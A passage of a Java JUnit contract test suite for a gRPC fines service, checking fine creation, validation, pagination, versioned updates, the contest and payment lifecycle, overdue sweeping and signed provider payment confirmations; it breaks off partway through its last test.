package com.finehero.server.fines;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

import com.finehero.api.common.v1.GeoPoint;
import com.finehero.api.common.v1.Money;
import com.finehero.api.fines.v1.ContestFineRequest;
import com.finehero.api.fines.v1.ContestOutcome;
import com.finehero.api.fines.v1.CreateFineRequest;
import com.finehero.api.fines.v1.DeleteFineRequest;
import com.finehero.api.fines.v1.Fine;
import com.finehero.api.fines.v1.FineNear;
import com.finehero.api.fines.v1.FineStatsGroup;
import com.finehero.api.fines.v1.FineStatus;
import com.finehero.api.fines.v1.FinesServiceGrpc;
import com.finehero.api.fines.v1.GetFineRequest;
import com.finehero.api.fines.v1.GetFineStatsRequest;
import com.finehero.api.fines.v1.ListFinesNearRequest;
import com.finehero.api.fines.v1.ListFinesRequest;
import com.finehero.api.fines.v1.ListFinesResponse;
import com.finehero.api.fines.v1.Location;
import com.finehero.api.fines.v1.PayFineRequest;
import com.finehero.api.fines.v1.PayFineResponse;
import com.finehero.api.fines.v1.ResolveContestRequest;
import com.finehero.api.fines.v1.UpdateFineRequest;
import com.finehero.server.testing.FineHeroExtension;
import com.finehero.server.testing.RestCalls;
import com.finehero.server.testing.TestPaymentProvider;
import com.finehero.server.testing.TestSession;
import com.finehero.api.auth.v1.AuditEvent;
import com.finehero.api.auth.v1.AuthServiceGrpc;
import com.finehero.api.auth.v1.ListAuditEventsRequest;
import com.finehero.api.auth.v1.Role;
import com.finehero.api.documents.v1.DocumentsServiceGrpc;
import com.finehero.api.documents.v1.GetDocumentRequest;
import com.finehero.api.fines.v1.ConfirmPaymentRequest;
import com.finehero.api.fines.v1.ConfirmPaymentResponse;
import com.finehero.api.fines.v1.PaymentStatus;
import com.finehero.api.tasks.v1.GetTaskRequest;
import com.finehero.api.tasks.v1.SubmitTaskRequest;
import com.finehero.api.tasks.v1.Task;
import com.finehero.api.tasks.v1.TaskState;
import com.finehero.api.tasks.v1.TasksServiceGrpc;
import com.google.protobuf.Struct;
import com.google.protobuf.Value;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import org.awaitility.Awaitility;
import com.google.protobuf.FieldMask;
import com.google.protobuf.Timestamp;
import io.grpc.Status.Code;
import io.grpc.StatusRuntimeException;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

import static com.finehero.server.testing.GrpcErrors.failure;
import static com.finehero.server.testing.GrpcErrors.reason;
import static com.finehero.server.testing.GrpcErrors.violatedFields;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * What a client of FinesService can rely on, over a real gRPC channel. Each backend runs this same
 * suite through a subclass ({@link FinesOnH2Test}, {@link FinesOnPostgresTest}).
 */
abstract class FinesContractTest {

    /** The states a task ends in; the tasks engine's own definition is not visible from this package. */
    private static final java.util.Set<TaskState> FINISHED = java.util.EnumSet.of(
            TaskState.TASK_STATE_SUCCEEDED, TaskState.TASK_STATE_DEAD, TaskState.TASK_STATE_CANCELLED);

    abstract FineHeroExtension app();

    FinesServiceGrpc.FinesServiceBlockingStub fines;
    /** A jurisdiction of this test's own, so tests never see each other's fines. */
    String jurisdiction;

    @BeforeEach
    void setUp() {
        fines = FinesServiceGrpc.newBlockingStub(app().channel()).withDeadlineAfter(Duration.ofSeconds(20));
        jurisdiction = "J-" + UUID.randomUUID().toString().substring(0, 8).toUpperCase();
    }

    Timestamp at(Instant instant) {
        return Timestamp.newBuilder().setSeconds(instant.getEpochSecond()).setNanos(instant.getNano()).build();
    }

    Instant now() {
        return app().clock().instant();
    }

    Fine.Builder draft(String citation) {
        return Fine.newBuilder()
                .setCitationNumber(citation)
                .setJurisdiction(jurisdiction)
                .setViolationCode("TRC-7.2.22")
                .setViolationDescription("Parking in a bus zone")
                .setAmount(usd(4550))
                .setIssueTime(at(now().minus(Duration.ofDays(1))))
                .setDueTime(at(now().plus(Duration.ofDays(30))))
                .setVehiclePlate("abc-123")
                .setOwnerId("user-1")
                .setLocation(Location.newBuilder()
                        .setAddress("1 Market St")
                        .setPoint(GeoPoint.newBuilder().setLatitude(37.7936).setLongitude(-122.3958)));
    }

    static Money usd(long minor) {
        return Money.newBuilder().setCurrencyCode("USD").setAmountMinor(minor).build();
    }

    Fine create(String citation) {
        return fines.createFine(CreateFineRequest.newBuilder().setFine(draft(citation)).build());
    }

    Fine get(String id) {
        return fines.getFine(GetFineRequest.newBuilder().setFineId(id).build());
    }

    Fine contest(Fine fine) {
        return fines.contestFine(ContestFineRequest.newBuilder()
                .setFineId(fine.getId())
                .setReason("The bus zone sign was covered by a tree.")
                .addEvidenceUris("https://evidence.example/photo-1.jpg")
                .build());
    }

    Fine resolve(Fine fine, ContestOutcome outcome) {
        return fines.resolveContest(ResolveContestRequest.newBuilder()
                .setFineId(fine.getId()).setOutcome(outcome).setNote("ruled").build());
    }

    PayFineResponse pay(Fine fine, String key, long amountMinor) {
        return fines.payFine(PayFineRequest.newBuilder()
                .setFineId(fine.getId()).setIdempotencyKey(key).setAmount(usd(amountMinor)).build());
    }

    @Nested
    class Create {
        @Test
        void newFineIsOpenWithServerFieldsAndNormalisedInputs() {
            Fine fine = create("SF-0001");

            assertThat(fine.getStatus()).isEqualTo(FineStatus.FINE_STATUS_OPEN);
            assertThat(UUID.fromString(fine.getId())).as("a random UUID in canonical form").hasToString(fine.getId())
                    .extracting(UUID::version).isEqualTo(4);
            assertThat(fine.getVersion()).isEqualTo(1);
            assertThat(fine.getVehiclePlate()).isEqualTo("ABC123");
            assertThat(fine.getJurisdiction()).isEqualTo(jurisdiction);
            assertThat(fine.hasCreateTime()).isTrue();
            assertThat(get(fine.getId())).isEqualTo(fine);
        }

        @Test
        void duplicateCitationInTheSameJurisdictionIsAlreadyExists() {
            create("SF-0002");
            StatusRuntimeException e = failure(Code.ALREADY_EXISTS, () -> create("SF-0002"));
            assertThat(e.getStatus().getDescription()).contains("SF-0002").contains(jurisdiction);
        }

        @Test
        void sameCitationInAnotherJurisdictionIsFine() {
            create("SF-0003");
            jurisdiction = jurisdiction + "-B";
            assertThat(create("SF-0003").getStatus()).isEqualTo(FineStatus.FINE_STATUS_OPEN);
        }

        @Test
        void missingRequiredFieldsAreNamed() {
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.createFine(CreateFineRequest.newBuilder()
                    .setFine(draft("SF-0004").clearAmount().clearCitationNumber()).build()));
            assertThat(e.getStatus().getDescription()).contains("citation_number").contains("amount");
            assertThat(violatedFields(e)).contains("fine");
        }

        @Test
        void malformedFieldsAreNamed() {
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.createFine(CreateFineRequest.newBuilder()
                    .setFine(draft("SF 0005 !!").setAmount(Money.newBuilder().setCurrencyCode("usd").setAmountMinor(100)))
                    .build()));
            assertThat(violatedFields(e)).contains("fine.citation_number", "fine.amount.currency_code");
        }

        @Test
        void dueBeforeIssueIsInvalid() {
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.createFine(CreateFineRequest.newBuilder()
                    .setFine(draft("SF-0006").setDueTime(at(now().minus(Duration.ofDays(5))))).build()));
            assertThat(e.getStatus().getDescription()).contains("due_time must be after issue_time");
        }

        @Test
        void missingFineIsInvalid() {
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.createFine(CreateFineRequest.getDefaultInstance()));
            assertThat(violatedFields(e)).containsExactly("fine");
        }
    }

    @Nested
    class Read {
        @Test
        void unknownIdIsNotFound() {
            String id = UUID.randomUUID().toString();
            StatusRuntimeException e = failure(Code.NOT_FOUND, () -> get(id));
            assertThat(e.getStatus().getDescription()).isEqualTo("fine " + id + " not found");
            assertThat(reason(e)).isEqualTo("FINE_NOT_FOUND");
        }

        @Test
        void malformedIdIsInvalidArgument() {
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> get("not-a-uuid"));
            assertThat(violatedFields(e)).containsExactly("fine_id");
        }

        @Test
        void upperCaseIdFindsTheFine() {
            Fine fine = create("SF-0101");
            assertThat(get(fine.getId().toUpperCase())).isEqualTo(fine);
        }
    }

    @Nested
    class Listing {
        @Test
        void pagesCoverEveryFineOnceNewestFirst() {
            List<String> created = new ArrayList<>();
            for (int i = 0; i < 7; i++) {
                created.add(create("LIST-" + i).getId());
                app().clock().advance(Duration.ofMillis(1));
            }
            List<String> seen = new ArrayList<>();
            String token = "";
            int pages = 0;
            do {
                ListFinesResponse page = fines.listFines(ListFinesRequest.newBuilder()
                        .setJurisdiction(jurisdiction).setPageSize(3).setPageToken(token).build());
                page.getFinesList().forEach(f -> seen.add(f.getId()));
                token = page.getNextPageToken();
                pages++;
            } while (!token.isEmpty());

            assertThat(pages).isEqualTo(3);
            assertThat(seen).containsExactlyElementsOf(created.reversed());
        }

        @Test
        void filtersByStatusPlateAndDueRange() {
            Fine open = create("FLT-1");
            Fine contested = contest(create("FLT-2"));
            Fine otherPlate = fines.createFine(CreateFineRequest.newBuilder()
                    .setFine(draft("FLT-3").setVehiclePlate("ZZZ 999").setDueTime(at(now().plus(Duration.ofDays(90)))))
                    .build());

            assertThat(ids(ListFinesRequest.newBuilder().setJurisdiction(jurisdiction)
                    .addStatuses(FineStatus.FINE_STATUS_CONTESTED))).containsExactly(contested.getId());
            assertThat(ids(ListFinesRequest.newBuilder().setJurisdiction(jurisdiction).setVehiclePlate("zzz-999")))
                    .containsExactly(otherPlate.getId());
            assertThat(ids(ListFinesRequest.newBuilder().setJurisdiction(jurisdiction)
                    .setDueAfter(at(now().plus(Duration.ofDays(60))))))
                    .containsExactly(otherPlate.getId());
            assertThat(ids(ListFinesRequest.newBuilder().setJurisdiction(jurisdiction)
                    .setDueBefore(at(now().plus(Duration.ofDays(60))))))
                    .containsExactlyInAnyOrder(open.getId(), contested.getId());
        }

        @Test
        void pageSizeIsCappedAt100() {
            for (int i = 0; i < 101; i++) {
                fines.createFine(CreateFineRequest.newBuilder().setFine(draft("CAP-" + i)).build());
            }
            ListFinesResponse page = fines.listFines(ListFinesRequest.newBuilder()
                    .setJurisdiction(jurisdiction).setPageSize(1000).build());
            assertThat(page.getFinesCount()).isEqualTo(100);
            assertThat(page.getNextPageToken()).isNotEmpty();
        }

        @Test
        void tokenFromOtherFiltersOrMadeUpIsInvalid() {
            create("TOK-1");
            create("TOK-2");
            String token = fines.listFines(ListFinesRequest.newBuilder()
                    .setJurisdiction(jurisdiction).setPageSize(1).build()).getNextPageToken();
            assertThat(token).isNotEmpty();

            StatusRuntimeException other = failure(Code.INVALID_ARGUMENT, () -> fines.listFines(ListFinesRequest.newBuilder()
                    .setJurisdiction(jurisdiction + "X").setPageSize(1).setPageToken(token).build()));
            assertThat(violatedFields(other)).containsExactly("page_token");
            failure(Code.INVALID_ARGUMENT, () -> fines.listFines(ListFinesRequest.newBuilder()
                    .setPageToken("bm9wZQ").build()));
            failure(Code.INVALID_ARGUMENT, () -> fines.listFines(ListFinesRequest.newBuilder()
                    .setPageToken("%%%").build()));
        }

        @Test
        void negativePageSizeIsInvalid() {
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT,
                    () -> fines.listFines(ListFinesRequest.newBuilder().setPageSize(-1).build()));
            assertThat(violatedFields(e)).containsExactly("page_size");
        }

        private List<String> ids(ListFinesRequest.Builder request) {
            return fines.listFines(request.build()).getFinesList().stream().map(Fine::getId).toList();
        }
    }

    @Nested
    class Update {
        @Test
        void changesMaskedFieldsOnlyAndBumpsVersion() {
            Fine fine = create("UPD-1");
            Fine updated = fines.updateFine(UpdateFineRequest.newBuilder()
                    .setFine(Fine.newBuilder().setId(fine.getId()).setVersion(fine.getVersion())
                            .setAmount(usd(9900)).setViolationDescription("ignored, not in mask"))
                    .setUpdateMask(FieldMask.newBuilder().addPaths("amount"))
                    .build());

            assertThat(updated.getAmount()).isEqualTo(usd(9900));
            assertThat(updated.getViolationDescription()).isEqualTo(fine.getViolationDescription());
            assertThat(updated.getVersion()).isEqualTo(fine.getVersion() + 1);
            assertThat(get(fine.getId())).isEqualTo(updated);
        }

        @Test
        void staleVersionIsAborted() {
            Fine fine = create("UPD-2");
            UpdateFineRequest change = UpdateFineRequest.newBuilder()
                    .setFine(Fine.newBuilder().setId(fine.getId()).setVersion(fine.getVersion()).setOwnerId("user-2"))
                    .setUpdateMask(FieldMask.newBuilder().addPaths("owner_id"))
                    .build();
            fines.updateFine(change);

            StatusRuntimeException e = failure(Code.ABORTED, () -> fines.updateFine(change));
            assertThat(e.getStatus().getDescription()).contains("version 2").contains("version 1");
        }

        @Test
        void outputOnlyOrUnknownPathsAreInvalid() {
            Fine fine = create("UPD-3");
            for (String path : List.of("status", "version", "nonsense")) {
                StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.updateFine(UpdateFineRequest.newBuilder()
                        .setFine(Fine.newBuilder().setId(fine.getId()).setVersion(fine.getVersion()))
                        .setUpdateMask(FieldMask.newBuilder().addPaths(path)).build()));
                assertThat(violatedFields(e)).containsExactly("update_mask");
                assertThat(e.getStatus().getDescription()).contains(path);
            }
        }

        @Test
        void missingVersionIsInvalid() {
            Fine fine = create("UPD-4");
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.updateFine(UpdateFineRequest.newBuilder()
                    .setFine(Fine.newBuilder().setId(fine.getId()).setOwnerId("x"))
                    .setUpdateMask(FieldMask.newBuilder().addPaths("owner_id")).build()));
            assertThat(e.getStatus().getDescription()).contains("fine.version is required");
        }

        @Test
        void citationClashIsAlreadyExistsAndChangesNothing() {
            create("UPD-5");
            Fine other = create("UPD-6");
            failure(Code.ALREADY_EXISTS, () -> fines.updateFine(UpdateFineRequest.newBuilder()
                    .setFine(Fine.newBuilder().setId(other.getId()).setVersion(other.getVersion()).setCitationNumber("UPD-5"))
                    .setUpdateMask(FieldMask.newBuilder().addPaths("citation_number")).build()));
            assertThat(get(other.getId())).isEqualTo(other);
        }

        @Test
        void paidFineCannotChange() {
            Fine fine = create("UPD-7");
            Fine paid = pay(fine, "key-upd-7-" + UUID.randomUUID(), 4550).getFine();
            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION, () -> fines.updateFine(UpdateFineRequest.newBuilder()
                    .setFine(Fine.newBuilder().setId(paid.getId()).setVersion(paid.getVersion()).setAmount(usd(1)))
                    .setUpdateMask(FieldMask.newBuilder().addPaths("amount")).build()));
            assertThat(e.getStatus().getDescription()).contains("PAID");
        }
    }

    @Nested
    class Delete {
        @Test
        void deletedFineIsGone() {
            Fine fine = create("DEL-1");
            fines.deleteFine(DeleteFineRequest.newBuilder().setFineId(fine.getId()).build());
            failure(Code.NOT_FOUND, () -> get(fine.getId()));
            failure(Code.NOT_FOUND, () -> fines.deleteFine(DeleteFineRequest.newBuilder().setFineId(fine.getId()).build()));
        }

        @Test
        void paidFineIsKept() {
            Fine fine = create("DEL-2");
            pay(fine, "key-del-2-" + UUID.randomUUID(), 4550);
            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION,
                    () -> fines.deleteFine(DeleteFineRequest.newBuilder().setFineId(fine.getId()).build()));
            assertThat(e.getStatus().getDescription()).contains("PAID");
            assertThat(get(fine.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
        }

        @Test
        void staleVersionIsAborted() {
            Fine fine = create("DEL-3");
            failure(Code.ABORTED, () -> fines.deleteFine(DeleteFineRequest.newBuilder()
                    .setFineId(fine.getId()).setVersion(fine.getVersion() + 5).build()));
            assertThat(get(fine.getId())).isEqualTo(fine);
        }
    }

    @Nested
    class Lifecycle {
        @Test
        void openToContestedRecordsTheContest() {
            Fine contested = contest(create("LC-1"));
            assertThat(contested.getStatus()).isEqualTo(FineStatus.FINE_STATUS_CONTESTED);
            assertThat(contested.getContest().getReason()).isEqualTo("The bus zone sign was covered by a tree.");
            assertThat(contested.getContest().getEvidenceUrisList()).containsExactly("https://evidence.example/photo-1.jpg");
            assertThat(contested.getContest().getCitedDocumentIdsCount()).isZero();
            assertThat(get(contested.getId())).isEqualTo(contested);
        }

        @Test
        void contestCitesExistingDocumentsOnly() {
            var documents = com.finehero.api.documents.v1.DocumentsServiceGrpc.newBlockingStub(app().channel());
            String statute = documents.createDocument(com.finehero.api.documents.v1.CreateDocumentRequest.newBuilder()
                    .setDocument(com.finehero.api.documents.v1.Document.newBuilder().setTitle("Vehicle Code 22500")
                            .setKind(com.finehero.api.documents.v1.DocumentKind.DOCUMENT_KIND_STATUTE)
                            .setContent("No person shall stop, park, or leave standing any vehicle..."))
                    .build()).getId();
            Fine fine = create("LC-10");
            String unknown = UUID.randomUUID().toString();
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.contestFine(ContestFineRequest.newBuilder()
                    .setFineId(fine.getId()).setReason("The statute does not apply here.")
                    .addCitedDocumentIds(statute).addCitedDocumentIds(unknown).build()));
            assertThat(violatedFields(e)).containsExactly("cited_document_ids[1]");
            assertThat(get(fine.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_OPEN);

            Fine contested = fines.contestFine(ContestFineRequest.newBuilder()
                    .setFineId(fine.getId()).setReason("The statute does not apply here.")
                    .addCitedDocumentIds(statute.toUpperCase()).build());
            assertThat(contested.getContest().getCitedDocumentIdsList()).containsExactly(statute);
        }

        @Test
        void contestedToDismissedIsFinal() {
            Fine dismissed = resolve(contest(create("LC-2")), ContestOutcome.CONTEST_OUTCOME_DISMISSED);
            assertThat(dismissed.getStatus()).isEqualTo(FineStatus.FINE_STATUS_DISMISSED);
            assertThat(dismissed.getContest().getOutcome()).isEqualTo(ContestOutcome.CONTEST_OUTCOME_DISMISSED);

            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION, () -> pay(dismissed, "key-lc2-" + UUID.randomUUID(), 4550));
            assertThat(e.getStatus().getDescription()).contains("DISMISSED");
            failure(Code.FAILED_PRECONDITION, () -> contest(dismissed));
        }

        @Test
        void contestedToUpheldToPaid() {
            Fine upheld = resolve(contest(create("LC-3")), ContestOutcome.CONTEST_OUTCOME_UPHELD);
            assertThat(upheld.getStatus()).isEqualTo(FineStatus.FINE_STATUS_UPHELD);
            PayFineResponse paid = pay(upheld, "key-lc3-" + UUID.randomUUID(), 4550);
            assertThat(paid.getFine().getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
        }

        @Test
        void openToPaid() {
            Fine fine = create("LC-4");
            PayFineResponse paid = pay(fine, "key-lc4-" + UUID.randomUUID(), 4550);
            assertThat(paid.getFine().getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
            assertThat(paid.getPayment().getAmount()).isEqualTo(usd(4550));
            assertThat(paid.getReplayed()).isFalse();
            assertThat(get(fine.getId()).getPayment()).isEqualTo(paid.getPayment());
        }

        @Test
        void illegalTransitionsNameTheCurrentState() {
            Fine contested = contest(create("LC-5"));
            StatusRuntimeException again = failure(Code.FAILED_PRECONDITION, () -> contest(contested));
            assertThat(again.getStatus().getDescription()).contains("is CONTESTED");
            StatusRuntimeException payContested = failure(Code.FAILED_PRECONDITION,
                    () -> pay(contested, "key-lc5-" + UUID.randomUUID(), 4550));
            assertThat(payContested.getStatus().getDescription()).contains("is CONTESTED");

            Fine open = create("LC-6");
            StatusRuntimeException resolveOpen = failure(Code.FAILED_PRECONDITION,
                    () -> resolve(open, ContestOutcome.CONTEST_OUTCOME_UPHELD));
            assertThat(resolveOpen.getStatus().getDescription()).contains("is OPEN");

            Fine paid = pay(create("LC-7"), "key-lc7-" + UUID.randomUUID(), 4550).getFine();
            StatusRuntimeException contestPaid = failure(Code.FAILED_PRECONDITION, () -> contest(paid));
            assertThat(contestPaid.getStatus().getDescription()).contains("is PAID");
            StatusRuntimeException payTwice = failure(Code.FAILED_PRECONDITION,
                    () -> pay(paid, "key-lc7b-" + UUID.randomUUID(), 4550));
            assertThat(payTwice.getStatus().getDescription()).contains("is PAID");
        }

        @Test
        void unspecifiedOutcomeIsInvalid() {
            Fine contested = contest(create("LC-8"));
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT,
                    () -> resolve(contested, ContestOutcome.CONTEST_OUTCOME_UNSPECIFIED));
            assertThat(violatedFields(e)).containsExactly("outcome");
        }

        @Test
        void shortContestReasonIsInvalid() {
            Fine fine = create("LC-9");
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.contestFine(ContestFineRequest.newBuilder()
                    .setFineId(fine.getId()).setReason("no").addEvidenceUris("not a uri").build()));
            assertThat(violatedFields(e)).contains("reason", "evidence_uris[0]");
            assertThat(get(fine.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_OPEN);
        }
    }

    @Nested
    class Overdue {
        @Test
        void openPastDueBecomesOverdueAndStaysPayable() {
            Fine fine = create("OD-1");
            app().clock().advance(Duration.ofDays(31));
            try {
                StatusRuntimeException e = failure(Code.FAILED_PRECONDITION, () -> contest(fine));
                assertThat(e.getStatus().getDescription()).contains("is OVERDUE");

                app().app().overdueSweeper().sweep();
                Fine overdue = get(fine.getId());
                assertThat(overdue.getStatus()).isEqualTo(FineStatus.FINE_STATUS_OVERDUE);
                assertThat(overdue.getVersion()).isEqualTo(fine.getVersion() + 1);

                assertThat(pay(overdue, "key-od1-" + UUID.randomUUID(), 4550).getFine().getStatus())
                        .isEqualTo(FineStatus.FINE_STATUS_PAID);
            } finally {
                app().clock().advance(Duration.ofDays(-31));
            }
        }

        @Test
        void upheldPastDueBecomesOverdue() {
            Fine upheld = resolve(contest(create("OD-2")), ContestOutcome.CONTEST_OUTCOME_UPHELD);
            app().clock().advance(Duration.ofDays(31));
            try {
                app().app().overdueSweeper().sweep();
                assertThat(get(upheld.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_OVERDUE);
            } finally {
                app().clock().advance(Duration.ofDays(-31));
            }
        }

        @Test
        void upheldAfterDueTimeGetsAGracePeriod() {
            Fine contested = contest(create("OD-3"));
            app().clock().advance(Duration.ofDays(40));
            try {
                Fine upheld = resolve(contested, ContestOutcome.CONTEST_OUTCOME_UPHELD);
                assertThat(upheld.getStatus()).isEqualTo(FineStatus.FINE_STATUS_UPHELD);
                assertThat(Instant.ofEpochSecond(upheld.getDueTime().getSeconds()))
                        .isAfter(now().plus(Duration.ofDays(29)));
                app().app().overdueSweeper().sweep();
                assertThat(get(upheld.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_UPHELD);
            } finally {
                app().clock().advance(Duration.ofDays(-40));
            }
        }

        @Test
        void contestedAndPaidFinesAreNotSwept() {
            Fine contested = contest(create("OD-4"));
            Fine paid = pay(create("OD-5"), "key-od5-" + UUID.randomUUID(), 4550).getFine();
            app().clock().advance(Duration.ofDays(31));
            try {
                app().app().overdueSweeper().sweep();
                assertThat(get(contested.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_CONTESTED);
                assertThat(get(paid.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
            } finally {
                app().clock().advance(Duration.ofDays(-31));
            }
        }
    }

    @Nested
    class Payment {
        @Test
        void sameKeyReturnsTheSamePayment() {
            Fine fine = create("PAY-1");
            String key = "key-pay1-" + UUID.randomUUID();
            PayFineResponse first = pay(fine, key, 4550);
            PayFineResponse again = pay(fine, key, 4550);

            assertThat(again.getPayment()).isEqualTo(first.getPayment());
            assertThat(again.getReplayed()).isTrue();
            assertThat(again.getFine().getVersion()).isEqualTo(first.getFine().getVersion());
        }

        @Test
        void sameKeyWithAnotherAmountIsFailedPrecondition() {
            Fine fine = create("PAY-2");
            String key = "key-pay2-" + UUID.randomUUID();
            pay(fine, key, 4550);
            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION, () -> pay(fine, key, 100));
            assertThat(reason(e)).isEqualTo("IDEMPOTENCY_KEY_REUSED");
        }

        @Test
        void sameKeyForAnotherFineIsFailedPrecondition() {
            String key = "key-pay3-" + UUID.randomUUID();
            pay(create("PAY-3"), key, 4550);
            Fine other = create("PAY-4");
            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION, () -> pay(other, key, 4550));
            assertThat(reason(e)).isEqualTo("IDEMPOTENCY_KEY_REUSED");
            assertThat(get(other.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_OPEN);
        }

        @Test
        void wrongAmountLeavesNothingBehind() {
            Fine fine = create("PAY-5");
            String key = "key-pay5-" + UUID.randomUUID();
            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION, () -> pay(fine, key, 100));
            assertThat(e.getStatus().getDescription()).contains("1.00 USD").contains("45.50 USD");
            assertThat(get(fine.getId())).isEqualTo(fine);
            // the key was not consumed by the failed attempt
            assertThat(pay(fine, key, 4550).getReplayed()).isFalse();
        }

        @Test
        void concurrentPaymentsWithOneKeyMakeOnePayment() throws Exception {
            Fine fine = create("PAY-6");
            String key = "key-pay6-" + UUID.randomUUID();
            Set<String> paymentIds = new HashSet<>();
            int replays = 0;
            try (ExecutorService pool = Executors.newFixedThreadPool(8)) {
                List<Future<PayFineResponse>> calls = new ArrayList<>();
                for (int i = 0; i < 8; i++) {
                    calls.add(pool.submit(() -> pay(fine, key, 4550)));
                }
                for (Future<PayFineResponse> call : calls) {
                    PayFineResponse response = call.get();
                    paymentIds.add(response.getPayment().getId());
                    replays += response.getReplayed() ? 1 : 0;
                }
            }
            assertThat(paymentIds).hasSize(1);
            assertThat(replays).isEqualTo(7);
        }

        @Test
        void shortKeyIsInvalid() {
            Fine fine = create("PAY-7");
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> pay(fine, "short", 4550));
            assertThat(violatedFields(e)).containsExactly("idempotency_key");
        }
    }

    /** Payments by viewers wait for the provider; the provider's signed webhook confirms them. */
    @Nested
    class ProviderConfirmation {
        TestPaymentProvider provider;
        TestSession viewer;
        FinesServiceGrpc.FinesServiceBlockingStub viewerFines;

        @BeforeEach
        void viewer() {
            provider = new TestPaymentProvider(app());
            viewer = app().userWith(Role.ROLE_VIEWER);
            viewerFines = FinesServiceGrpc.newBlockingStub(viewer.channel()).withDeadlineAfter(Duration.ofSeconds(20));
        }

        Fine ownedBy(TestSession owner, String citation) {
            return fines.createFine(CreateFineRequest.newBuilder().setFine(draft(citation).setOwnerId(owner.userId())).build());
        }

        PayFineResponse payAs(FinesServiceGrpc.FinesServiceBlockingStub stub, Fine fine, String key) {
            return stub.payFine(PayFineRequest.newBuilder()
                    .setFineId(fine.getId()).setIdempotencyKey(key).setAmount(fine.getAmount()).build());
        }

        /** Refused confirmation calls of this payment as the audit log has them: their outcomes. */
        List<String> auditedConfirmations(String paymentId) {
            return AuthServiceGrpc.newBlockingStub(app().channel()).withDeadlineAfter(Duration.ofSeconds(20))
                    .listAuditEvents(ListAuditEventsRequest.newBuilder().setMethod("ConfirmPayment").setPageSize(500).build())
                    .getEventsList().stream()
                    .filter(event -> event.getResource().equals(paymentId))
                    .map(AuditEvent::getOutcome).toList();
        }

        @Test
        void viewersPaymentIsPendingAndTheFineStaysPayable() {
            Fine fine = ownedBy(viewer, "PC-1");
            PayFineResponse paid = payAs(viewerFines, fine, "key-pc1-" + UUID.randomUUID());

            assertThat(paid.getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_PENDING_CONFIRMATION);
            assertThat(paid.getPayment().hasConfirmTime()).isFalse();
            assertThat(paid.getFine()).isEqualTo(fine);
            assertThat(get(fine.getId())).isEqualTo(fine);
            assertThat(fine.getStatus()).isEqualTo(FineStatus.FINE_STATUS_OPEN);
        }

        @Test
        void signedConfirmationMakesTheFinePaid() {
            Fine fine = ownedBy(viewer, "PC-2");
            String key = "key-pc2-" + UUID.randomUUID();
            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, key).getPayment();

            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
            ConfirmPaymentResponse confirmed = provider.confirm(confirmation, provider.signature(confirmation));

            assertThat(confirmed.getReplayed()).isFalse();
            assertThat(confirmed.getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
            assertThat(confirmed.getPayment().getReference()).isEqualTo(confirmation.getProviderReference());
            Fine now = get(fine.getId());
            assertThat(now.getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
            assertThat(now.getPayment()).isEqualTo(confirmed.getPayment());
            // the viewer retrying their call now sees the confirmed payment and the paid fine
            PayFineResponse retried = payAs(viewerFines, fine, key);
            assertThat(retried.getReplayed()).isTrue();
            assertThat(retried.getPayment()).isEqualTo(confirmed.getPayment());
            assertThat(retried.getFine()).isEqualTo(now);
        }

        @Test
        void redeliveredAndSecondConfirmationsChangeNothing() {
            Fine fine = ownedBy(viewer, "PC-3");
            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc3-" + UUID.randomUUID()).getPayment();
            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
            com.finehero.api.fines.v1.Payment confirmed = provider.confirm(confirmation, provider.signature(confirmation)).getPayment();
            Fine paid = get(fine.getId());

            // the provider delivering the same confirmation again, signed anew a little later
            app().clock().advance(Duration.ofSeconds(3));
            ConfirmPaymentResponse redelivered = provider.confirm(confirmation, provider.signature(confirmation));
            ConfirmPaymentResponse another = provider.confirm(pending);

            assertThat(redelivered.getReplayed()).isTrue();
            assertThat(redelivered.getPayment()).isEqualTo(confirmed);
            assertThat(another.getReplayed()).isTrue();
            assertThat(another.getPayment()).isEqualTo(confirmed);
            assertThat(get(fine.getId())).isEqualTo(paid);
        }

        @Test
        void confirmationAfterTheFineWasPaidOtherwiseIsUnapplied() {
            Fine fine = ownedBy(viewer, "PC-4");
